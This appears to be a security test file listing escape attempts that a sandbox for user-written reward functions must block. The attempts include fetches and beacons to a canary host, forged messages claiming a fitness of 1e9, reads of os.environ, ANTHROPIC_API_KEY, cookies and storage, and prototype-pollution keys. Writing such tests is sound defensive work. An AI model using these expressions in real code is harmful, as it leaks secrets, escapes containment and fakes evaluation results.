"""Cases that go for the page around the code: its network, its messages, its storage, its objects."""

from __future__ import annotations

from tests.security.case import CANARY, Case, above, cases, computing

PAGE = [
    *(
        computing(expression)
        for expression in (
            f"fetch('http://{CANARY}/')",
            f"js.fetch('http://{CANARY}/')",
            "js.self",
            "js.globalThis",
            "js.eval('1')",
            "js.Function('return 1')()",
            "XMLHttpRequest()",
            "js.XMLHttpRequest.new()",
            f"WebSocket('ws://{CANARY}/')",
            f"js.WebSocket.new('ws://{CANARY}/')",
            f"EventSource('http://{CANARY}/')",
            f"WebTransport('https://{CANARY}/')",
            f"importScripts('http://{CANARY}/x.js')",
            f"js.importScripts('http://{CANARY}/x.js')",
            "postMessage({'type': 'ready'})",
            "self.postMessage({'type': 'policy_file'})",
            "js.postMessage({'type': 'fitness', 'fitness': 1e9})",
            "js.self.onmessage",
            "Worker('x.js')",
            "SharedWorker('x.js')",
            "BroadcastChannel('tabrl')",
            "MessageChannel()",
            f"navigator.sendBeacon('http://{CANARY}/', 'x')",
            "location.href",
            "document.cookie",
            "window.parent",
            "crypto.subtle",
            "console.log('x')",
            "Atomics.wait(1)",
            "SharedArrayBuffer(8)",
            "bridge.post('x')",
            "bridge.codeRuns(False, 'reward')",
            "host.post(Failed())",
            "runner.receive('{}')",
            "exchange.offer(1)",
            "self.close()",
        )
    ),
    above("postMessage = 1.0\nself = postMessage").replace("s.upright, {", "self({'type': 'ready'}), {"),
]

STORAGE = [
    computing(expression)
    for expression in (
        "localStorage.getItem('key')",
        "sessionStorage.getItem('key')",
        "indexedDB.open('tabrl')",
        "js.indexedDB.databases()",
        "caches.open('x')",
        "js.caches.keys()",
        "navigator.storage.getDirectory()",
        "js.navigator.storage.persist()",
        "cookieStore.getAll()",
        "navigator.serviceWorker.register('x')",
        "navigator.locks.request('x', s)",
        "FS.writeFile('/x', 'y')",
        "pyodide.FS.readdir('/')",
        "os.listdir('/')",
        "pathlib.Path('/').iterdir()",
        "API_KEY",
        "os.environ",
        "ANTHROPIC_API_KEY",
        "self.key",
        "designer.key",
    )
]

_POLLUTING = ("__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "then")
PROTOTYPES = {
    **{
        f"term-{name}": f"def reward(s):\n    return s.upright, {{'{name}': s.upright}}"
        for name in _POLLUTING
    },
    **{
        f"entry-{name}": "def reward(s):\n    terms = {'a': s.upright}\n    terms['"
        + name
        + "'] = s.upright\n    return s.upright, terms"
        for name in _POLLUTING
    },
    "attribute-proto": computing("s.__proto__"),
    "attribute-constructor": computing("s.constructor"),
    "attribute-constructor-2": computing("s.upright.constructor.constructor('return 1')()"),
    "object": computing("Object.prototype"),
    "reflect": computing("Reflect.ownKeys(s)"),
    "proxy": computing("Proxy(s, {})"),
    "js-proxy": computing("s.upright.js_id"),
    "to-py": computing("s.upright.to_py()"),
    "define-property": computing("Object.defineProperty(s, 'x', {})"),
}

CASES: list[Case] = [
    *cases("page", PAGE),
    *cases("storage", STORAGE),
    *cases("prototype", PROTOTYPES),
]
